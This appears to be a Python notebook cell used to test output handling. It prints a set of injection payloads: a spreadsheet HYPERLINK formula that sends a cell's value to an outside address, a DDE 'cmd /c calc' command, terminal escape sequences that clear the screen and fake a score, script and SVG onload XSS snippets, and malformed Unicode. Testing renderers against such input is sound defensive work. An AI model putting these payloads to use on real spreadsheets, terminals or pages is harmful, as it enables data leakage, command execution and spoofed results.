# %% extra
import sys

from IPython.display import SVG, HTML, Javascript, display

print('=HYPERLINK("http://192.0.2.1/?" & A1, "points")\t+1+cmd|"/c calc"!A0\r@SUM(1)')
print("\x1b]0;titled\x07\x1b[2J\x1b[1;1Hscore: 100\x9b31m")
display(HTML("<script>document.cookie</script><meta http-equiv=refresh content=0>"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
print("\u202e\x00\ud800", file=sys.stderr)
